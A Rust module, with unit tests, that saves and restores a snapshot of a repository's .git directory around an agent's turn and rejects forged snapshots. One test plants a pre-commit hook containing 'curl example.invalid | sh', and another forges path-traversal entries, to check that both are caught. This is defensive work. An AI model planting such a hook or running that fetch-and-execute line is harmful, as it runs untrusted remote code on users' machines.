//! The `.git` snapshot kept on disk while an agent turn runs, so that the next start can put
//! `.git` back when the engine was killed mid-turn (`kill -9`, power loss).
//!
//! The file lives in the git directory it is of (`autoresearch-gitdir.json`), not in the
//! artifacts: under the `workspace-write` sandbox an agent may write the artifacts directory but
//! not `.git`, so it cannot forge a snapshot that the next start would write into `.git`. The
//! file records the git directory, the common directory and the engine process that took it; one
//! of another git directory, or naming a path that is not covered, is refused whole. JSON; file
//! contents in hex, paths as text (in hex when they are not UTF-8).

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::io::ErrorKind;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::path::{Component, Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::{COMMON_TREES, Entry, FILES, GitDirSnapshot, TREES};
use crate::error::{Error, Result};
use crate::fsutil;

/// The file's name inside the git directory.
const FILE: &str = "autoresearch-gitdir.json";
/// The format written; another is refused.
const VERSION: u32 = 1;

/// Where the snapshot of `git_dir` is kept during a turn.
pub fn saved_path(git_dir: &Path) -> PathBuf {
    git_dir.join(FILE)
}

/// Removes the kept snapshot of `git_dir`, if any (used up by a recovery, or left by a run that
/// was killed between turns).
pub fn remove_saved(git_dir: &Path) -> Result<()> {
    let path = saved_path(git_dir);
    match fs::remove_file(&path) {
        Err(e) if e.kind() != ErrorKind::NotFound => Err(Error::io("remove", &path, e)),
        _ => Ok(()),
    }
}

/// A path or link target: its text, or its bytes in hex when it is not UTF-8.
#[derive(Serialize, Deserialize)]
#[serde(untagged)]
enum Text {
    Utf8(String),
    Raw { hex: String },
}

/// One covered path as the file holds it.
#[derive(Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
enum Item {
    File {
        path: Text,
        mode: u32,
        hex: String,
    },
    Link {
        path: Text,
        target: Text,
    },
    Dir {
        path: Text,
        mode: u32,
    },
    Opaque {
        path: Text,
        mode: u32,
        len: u64,
        mtime_ns: i128,
    },
}

#[derive(Serialize, Deserialize)]
struct SavedFile {
    version: u32,
    pid: u32,
    git_dir: Text,
    common: Text,
    entries: Vec<Item>,
}

fn hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push(DIGITS[usize::from(b >> 4)] as char);
        s.push(DIGITS[usize::from(b & 15)] as char);
    }
    s
}

fn unhex(s: &str) -> std::result::Result<Vec<u8>, String> {
    fn digit(c: u8) -> Option<u8> {
        (c as char).to_digit(16).map(|d| d as u8)
    }
    if !s.len().is_multiple_of(2) {
        return Err("odd-length hex".into());
    }
    s.as_bytes()
        .chunks(2)
        .map(|p| Some(digit(p[0])? << 4 | digit(p[1])?))
        .collect::<Option<Vec<u8>>>()
        .ok_or_else(|| "a bad hex digit".into())
}

fn text(p: &Path) -> Text {
    match p.to_str() {
        Some(s) => Text::Utf8(s.to_string()),
        None => Text::Raw {
            hex: hex(p.as_os_str().as_bytes()),
        },
    }
}

fn path_of(t: Text) -> std::result::Result<PathBuf, String> {
    Ok(match t {
        Text::Utf8(s) => PathBuf::from(s),
        Text::Raw { hex } => PathBuf::from(OsString::from_vec(unhex(&hex)?)),
    })
}

fn item(path: &Path, entry: &Entry) -> Item {
    let path = text(path);
    match entry {
        Entry::File { bytes, mode } => Item::File {
            path,
            mode: *mode,
            hex: hex(bytes),
        },
        Entry::Link(target) => Item::Link {
            path,
            target: text(target),
        },
        Entry::Dir { mode } => Item::Dir { path, mode: *mode },
        Entry::Opaque {
            mode,
            len,
            mtime_ns,
        } => Item::Opaque {
            path,
            mode: *mode,
            len: *len,
            mtime_ns: *mtime_ns,
        },
    }
}

fn entry(item: Item) -> std::result::Result<(PathBuf, Entry), String> {
    Ok(match item {
        Item::File { path, mode, hex } => (
            path_of(path)?,
            Entry::File {
                bytes: unhex(&hex)?,
                mode: mode & 0o7777,
            },
        ),
        Item::Link { path, target } => (path_of(path)?, Entry::Link(path_of(target)?)),
        Item::Dir { path, mode } => (
            path_of(path)?,
            Entry::Dir {
                mode: mode & 0o7777,
            },
        ),
        Item::Opaque {
            path,
            mode,
            len,
            mtime_ns,
        } => (
            path_of(path)?,
            Entry::Opaque {
                mode,
                len,
                mtime_ns,
            },
        ),
    })
}

impl GitDirSnapshot {
    /// The engine process that took the snapshot.
    pub fn taken_by(&self) -> u32 {
        self.pid
    }

    /// Writes the snapshot to `path` atomically (see [`saved_path`]).
    pub fn save(&self, path: &Path) -> Result<()> {
        fsutil::write_atomic(path, &self.encode()?)
    }

    /// The snapshot as the file holds it.
    fn encode(&self) -> Result<Vec<u8>> {
        let file = SavedFile {
            version: VERSION,
            pid: self.pid,
            git_dir: text(&self.git_dir),
            common: text(&self.common),
            entries: self.entries.iter().map(|(p, e)| item(p, e)).collect(),
        };
        serde_json::to_vec(&file)
            .map_err(|e| Error::Blocked(format!("internal: cannot encode the .git snapshot: {e}")))
    }

    /// Reads the snapshot kept at `path` for the repository whose git directory is `git_dir`
    /// (git2's `Repository::path`). `Ok(None)` when there is none; `Err` with the reason when
    /// there is one that may not be applied: unreadable, of another git directory (a moved or
    /// copied repository), or naming a path outside what a snapshot covers.
    pub fn load(
        path: &Path,
        git_dir: &Path,
    ) -> std::result::Result<Option<GitDirSnapshot>, String> {
        let bytes = match fs::read(path) {
            Ok(b) => b,
            Err(e) if e.kind() == ErrorKind::NotFound => return Ok(None),
            Err(e) => return Err(format!("cannot read it ({e})")),
        };
        let file: SavedFile =
            serde_json::from_slice(&bytes).map_err(|e| format!("it is unreadable ({e})"))?;
        if file.version != VERSION {
            return Err(format!(
                "it has format version {}, not {VERSION}",
                file.version
            ));
        }
        let here = git_dir
            .canonicalize()
            .map_err(|e| format!("cannot resolve {} ({e})", git_dir.display()))?;
        let mut snap = GitDirSnapshot {
            git_dir: path_of(file.git_dir)?,
            common: path_of(file.common)?,
            pid: file.pid,
            entries: BTreeMap::new(),
        };
        if snap.git_dir != here {
            return Err(format!(
                "it was taken of {}, not of this repository's git directory {}",
                snap.git_dir.display(),
                here.display()
            ));
        }
        // Checked from the recorded paths alone: the `commondir` file itself may be what the
        // interrupted turn changed.
        let linked = snap.git_dir.parent() == Some(snap.common.join("worktrees").as_path());
        if (snap.common != snap.git_dir && !linked)
            || snap.common.canonicalize().ok().as_ref() != Some(&snap.common)
        {
            return Err(format!(
                "its common git directory {} is not this repository's",
                snap.common.display()
            ));
        }
        for it in file.entries {
            let (path, e) = entry(it)?;
            if !snap.covers(&path) {
                return Err(format!(
                    "it names {}, which a snapshot does not cover",
                    path.display()
                ));
            }
            snap.entries.insert(path, e);
        }
        Ok(Some(snap))
    }

    /// Whether `path` is one that `collect` may record: a covered file or tree in the git
    /// directory or the common directory, or a linked worktree's `config.worktree`.
    fn covers(&self, path: &Path) -> bool {
        fn plain(rel: &Path) -> bool {
            rel.components().all(|c| matches!(c, Component::Normal(_)))
        }
        fn within(rel: &Path, common: bool) -> bool {
            FILES.iter().any(|f| rel == Path::new(f))
                || TREES.iter().any(|t| rel.starts_with(t))
                || (common && COMMON_TREES.iter().any(|t| rel.starts_with(t)))
        }
        if let Ok(rel) = path.strip_prefix(&self.git_dir)
            && plain(rel)
            && within(rel, false)
        {
            return true;
        }
        let Ok(rel) = path.strip_prefix(&self.common) else {
            return false;
        };
        let parts: Vec<Component<'_>> = rel.components().collect();
        let worktree_config = parts.len() == 3
            && parts[0].as_os_str() == "worktrees"
            && parts[2].as_os_str() == "config.worktree";
        plain(rel) && (within(rel, true) || worktree_config)
    }
}

/// Keeps the snapshot of the turn that runs on disk, and removes it when the run ends with no
/// turn open. Writes only when the snapshot differs from the one it last wrote (usually only the
/// first turn of a process).
#[derive(Debug, Default)]
pub struct OnDisk {
    /// The snapshot in the file, as this process last wrote it.
    last: Option<GitDirSnapshot>,
    /// A turn runs, or its restore failed: the file must stay for the next start.
    open: bool,
}

impl OnDisk {
    /// Before a turn: saves `snap` unless the file already holds it. Returns whether it wrote.
    pub fn before_turn(&mut self, snap: &GitDirSnapshot) -> Result<bool> {
        let path = saved_path(&snap.git_dir);
        let wrote = if self.last.as_ref() == Some(snap) && fs::symlink_metadata(&path).is_ok() {
            false
        } else {
            snap.save(&path)?;
            self.last = Some(snap.clone());
            true
        };
        self.open = true;
        Ok(wrote)
    }

    /// After the turn: what it changed in `.git` was put back.
    pub fn after_turn(&mut self) {
        self.open = false;
    }
}

impl Drop for OnDisk {
    fn drop(&mut self) {
        if !self.open
            && let Some(last) = &self.last
        {
            let _ = fs::remove_file(saved_path(&last.git_dir));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::snapshot;
    use super::*;
    use std::os::unix::fs::{PermissionsExt, symlink};

    /// A repository with a hook, an exclude file, a link, a directory with its own mode, a
    /// fifo (an opaque entry), a non-UTF-8 file name and binary content.
    fn fixture() -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let repo = git2::Repository::init(dir.path()).unwrap();
        let git = repo.path().canonicalize().unwrap();
        let hooks = git.join("hooks");
        fs::create_dir_all(&hooks).unwrap();
        fs::write(hooks.join("pre-push"), "#!/bin/sh\nexit 0\n").unwrap();
        fs::set_permissions(hooks.join("pre-push"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::write(
            hooks.join(OsString::from_vec(b"odd-\xff".to_vec())),
            b"\x00\xff\n",
        )
        .unwrap();
        symlink("pre-push", hooks.join("pre-rebase")).unwrap();
        fs::create_dir_all(git.join("info/private")).unwrap();
        fs::set_permissions(git.join("info/private"), fs::Permissions::from_mode(0o700)).unwrap();
        fs::write(git.join("info/exclude"), "/build/\n").unwrap();
        nix::unistd::mkfifo(&git.join("info/fifo"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        (dir, git)
    }

    #[test]
    fn a_saved_snapshot_loads_back_equal_and_restores() {
        let (_dir, git) = fixture();
        let snap = snapshot(&git).unwrap();
        let kinds = |f: fn(&Entry) -> bool| snap.entries.values().filter(|e| f(e)).count();
        assert!(kinds(|e| matches!(e, Entry::File { .. })) >= 3);
        assert_eq!(kinds(|e| matches!(e, Entry::Link(_))), 1);
        assert!(kinds(|e| matches!(e, Entry::Dir { mode: 0o700 })) >= 1);
        assert_eq!(kinds(|e| matches!(e, Entry::Opaque { .. })), 1);
        let path = saved_path(&git);
        snap.save(&path).unwrap();
        let loaded = GitDirSnapshot::load(&path, &git).unwrap().unwrap();
        assert_eq!(loaded, snap);
        assert_eq!(loaded.taken_by(), std::process::id());

        let hook = git.join("hooks/pre-commit");
        fs::write(&hook, "#!/bin/sh\ncurl example.invalid | sh\n").unwrap();
        fs::set_permissions(
            git.join("hooks/pre-push"),
            fs::Permissions::from_mode(0o644),
        )
        .unwrap();
        fs::remove_file(git.join("hooks/pre-rebase")).unwrap();
        assert_eq!(
            loaded.restore().unwrap(),
            [
                ".git/hooks/pre-commit",
                ".git/hooks/pre-push",
                ".git/hooks/pre-rebase"
            ]
        );
        assert!(!hook.exists());
        assert_eq!(snapshot(&git).unwrap(), snap);
    }

    #[test]
    fn no_file_is_none() {
        let (_dir, git) = fixture();
        assert_eq!(GitDirSnapshot::load(&saved_path(&git), &git), Ok(None));
    }

    #[test]
    fn a_snapshot_of_another_repository_is_refused() {
        let (_a, git_a) = fixture();
        let (_b, git_b) = fixture();
        let path = saved_path(&git_b);
        snapshot(&git_a).unwrap().save(&path).unwrap();
        let why = GitDirSnapshot::load(&path, &git_b).unwrap_err();
        assert!(
            why.contains("not of this repository's git directory"),
            "{why}"
        );
    }

    #[test]
    fn a_snapshot_naming_an_uncovered_path_is_refused() {
        let (_dir, git) = fixture();
        let path = saved_path(&git);
        snapshot(&git).unwrap().save(&path).unwrap();
        let text = fs::read_to_string(&path).unwrap();
        let hook = git.join("hooks/pre-push");
        for evil in [
            git.join("hooks/../../outside"),
            git.join("objects/pack/x"),
            git.parent().unwrap().join("src/main.rs"),
        ] {
            let forged = text.replace(hook.to_str().unwrap(), evil.to_str().unwrap());
            fs::write(&path, forged).unwrap();
            let why = GitDirSnapshot::load(&path, &git).unwrap_err();
            assert!(why.contains("which a snapshot does not cover"), "{why}");
        }
        fs::write(&path, "{not json").unwrap();
        assert!(GitDirSnapshot::load(&path, &git).is_err());
    }

    #[test]
    fn a_linked_worktree_snapshot_round_trips() {
        let (_dir, git) = fixture();
        let repo = git2::Repository::open(&git).unwrap();
        let sig = git2::Signature::now("t", "t@t").unwrap();
        let tree = repo
            .find_tree(repo.index().unwrap().write_tree().unwrap())
            .unwrap();
        repo.commit(Some("HEAD"), &sig, &sig, "initial", &tree, &[])
            .unwrap();
        let parent = tempfile::tempdir().unwrap();
        repo.worktree("wt", &parent.path().join("wt"), None)
            .unwrap();
        let own = git.join("worktrees/wt");
        fs::write(own.join("config.worktree"), "[core]\n").unwrap();
        let snap = snapshot(&own).unwrap();
        assert_eq!(snap.common, git);
        let path = saved_path(&own);
        snap.save(&path).unwrap();
        assert_eq!(GitDirSnapshot::load(&path, &own).unwrap().unwrap(), snap);
        // The main repository's git directory is not the worktree's.
        let why = GitDirSnapshot::load(&path, &git).unwrap_err();
        assert!(
            why.contains("not of this repository's git directory"),
            "{why}"
        );
    }

    #[test]
    fn hex_round_trips_and_rejects_bad_digits() {
        let all: Vec<u8> = (0..=255).collect();
        assert_eq!(unhex(&hex(&all)).unwrap(), all);
        assert_eq!(hex(b"\x00\xab"), "00ab");
        assert!(unhex("abc").is_err());
        assert!(unhex("zz").is_err());
    }

    #[test]
    fn on_disk_writes_only_a_changed_snapshot_and_removes_it_when_no_turn_is_open() {
        let (_dir, git) = fixture();
        let path = saved_path(&git);
        let mut disk = OnDisk::default();
        let first = snapshot(&git).unwrap();
        assert!(disk.before_turn(&first).unwrap());
        disk.after_turn();
        fs::write(&path, "marker").unwrap();
        assert!(!disk.before_turn(&snapshot(&git).unwrap()).unwrap());
        assert_eq!(
            fs::read_to_string(&path).unwrap(),
            "marker",
            "not rewritten"
        );
        disk.after_turn();
        fs::write(git.join("info/exclude"), "/other/\n").unwrap();
        assert!(disk.before_turn(&snapshot(&git).unwrap()).unwrap());
        fs::remove_file(&path).unwrap();
        assert!(
            disk.before_turn(&snapshot(&git).unwrap()).unwrap(),
            "a removed file is written again"
        );
        // Dropped while a turn is open (a restore failed): the file stays.
        drop(disk);
        assert!(path.exists());
        let mut disk = OnDisk::default();
        disk.before_turn(&snapshot(&git).unwrap()).unwrap();
        disk.after_turn();
        drop(disk);
        assert!(!path.exists(), "removed at the end of a run");
    }

    #[test]
    #[ignore = "benchmark: cargo test --release --lib gitdir::saved::tests::cost -- --ignored --nocapture"]
    fn cost_of_keeping_the_snapshot_on_disk() {
        let dir = tempfile::tempdir().unwrap();
        let made = std::process::Command::new("git")
            .args(["init", "-q"])
            .arg(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status();
        if !made.is_ok_and(|s| s.success()) {
            eprintln!("git is not available: skipped");
            return;
        }
        let git = dir.path().join(".git");
        let snap = snapshot(&git).unwrap();
        let size = snap.entries.len();
        let rounds = 200u32;
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            // Each a new process's first turn (a turn left open: the file stays).
            OnDisk::default().before_turn(&snap).unwrap();
        }
        let first = t.elapsed() / rounds;
        let mut disk = OnDisk::default();
        disk.before_turn(&snap).unwrap();
        let rounds = 20_000u32;
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            assert!(!disk.before_turn(&snap).unwrap());
        }
        let same = t.elapsed() / rounds;
        let t = std::time::Instant::now();
        for _ in 0..rounds / 10 {
            snap.encode().unwrap();
        }
        let encode = t.elapsed() / (rounds / 10);
        let bytes = fs::metadata(saved_path(&git)).unwrap().len();
        eprintln!(
            "{size} entries, {bytes} bytes on disk: first turn {} µs (of which encoding {} µs, the rest the write and its fsyncs), unchanged {:.2} µs",
            first.as_micros(),
            encode.as_micros(),
            same.as_nanos() as f64 / 1000.0
        );
    }
}
